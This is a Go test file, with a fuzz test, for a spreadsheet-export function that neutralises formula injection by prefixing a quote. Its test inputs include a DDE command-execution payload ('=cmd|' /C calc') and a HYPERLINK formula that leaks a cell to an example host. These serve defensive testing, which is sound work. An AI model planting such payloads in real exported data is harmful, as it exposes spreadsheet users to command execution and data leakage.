package export_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/barefoot-ussd/barefoot/gateway/export"
	"golang.org/x/text/unicode/norm"
)

func TestNeutralize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		// OWASP's six triggers.
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+1", "'+1"},
		{"minus", "-1", "'-1"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"hyperlink", `=HYPERLINK("http://x.example/?"&A1,"点")`, `'=HYPERLINK("http://x.example/?"&A1,"点")`},
		{"lone tab", "\t", "'\t"},
		{"lone minus", "-", "'-"},
		// Leading white space does not hide a trigger.
		{"space equals", " =1+1", "' =1+1"},
		{"spaces at", "   @SUM(A1)", "'   @SUM(A1)"},
		{"newline plus", "\n+1", "'\n+1"},
		{"nbsp equals", "\u00a0=1", "'\u00a0=1"},
		{"ideographic space minus", "\u3000-1", "'\u3000-1"},
		{"zero width space equals", "\u200b=1", "'\u200b=1"},
		{"bom equals", "\ufeff=1", "'\ufeff=1"},
		// Full-width triggers, as Chinese input methods type them.
		{"full-width equals", "＝1＋1", "'＝1＋1"},
		{"small equals", "﹦1﹢1", "'﹦1﹢1"},
		{"small commercial at", "﹫SUM(1)", "'﹫SUM(1)"},
		{"full-width minus", "－无－", "'－无－"},
		{"space full-width at", " ＠A1", "' ＠A1"},
		// Text that needs no change is returned as it is.
		{"empty", "", ""},
		{"hello", "hello", "hello"},
		{"chinese name", "王小明", "王小明"},
		{"equals inside", "a=b", "a=b"},
		{"minus inside", "1-2", "1-2"},
		{"leading space text", " hello", " hello"},
		{"only spaces", "   ", "   "},
		{"newline text", "\nhello", "\nhello"},
		{"digits", "12345", "12345"},
		{"percent", "%20", "%20"},
		{"pipe", "|x", "|x"},
		{"invalid utf-8", "\xff=1", "\xff=1"},
		{"nul equals", "\x00=1", "'\x00=1"},
		{"del minus", "\x7f-1", "'\x7f-1"},
		{"nul text", "\x00a", "\x00a"},
		// A leading quote already makes the cell text: left alone, so that
		// Neutralize is idempotent.
		{"quoted formula", "'=1+1", "'=1+1"},
		{"quoted text", "'hello", "'hello"},
		{"quote alone", "'", "'"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := export.Neutralize(tt.in)
			if got != tt.want {
				t.Fatalf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if again := export.Neutralize(got); again != got {
				t.Fatalf("Neutralize not idempotent: %q then %q", got, again)
			}
		})
	}
}

// dangerous is an independent statement of what a spreadsheet may evaluate:
// an OWASP trigger first, or "=", "+", "-", "@" after leading white space.
func dangerous(s string) bool {
	if s == "" {
		return false
	}
	if strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return true
	}
	rest := strings.TrimLeftFunc(s, unicode.IsSpace)
	return rest != "" && strings.ContainsRune("=+-@", rune(rest[0]))
}

func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{
		"", "hello", "王小明", "a=b", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
		"=cmd|' /C calc'!A0", " =1", "\u3000-1", "＝1", "'=1", "'", "\xff", "\x00=1",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := export.Neutralize(s)
		if dangerous(out) && !strings.HasPrefix(out, "'") {
			t.Fatalf("Neutralize(%q) = %q: still starts like a formula", s, out)
		}
		if out != s {
			if out != "'"+s {
				t.Fatalf("Neutralize(%q) = %q: changed more than a leading quote", s, out)
			}
			if strings.TrimPrefix(out, "'") != s {
				t.Fatalf("Neutralize(%q) = %q: the input is not kept after the quote", s, out)
			}
		}
		if again := export.Neutralize(out); again != out {
			t.Fatalf("Neutralize not idempotent on %q: %q then %q", s, out, again)
		}
		// Text whose first character is neither a trigger, white space, a
		// control nor an invisible format character needs no change.
		if r, _ := utf8.DecodeRuneInString(s); s != "" && !strings.ContainsRune("=+-@", r) && !strings.Contains("=+-@", norm.NFKC.String(string(r))) &&
			!unicode.IsSpace(r) && !unicode.IsControl(r) && !unicode.Is(unicode.Cf, r) && out != s {
			t.Fatalf("Neutralize(%q) = %q: changed text that needs no change", s, out)
		}
	})
}
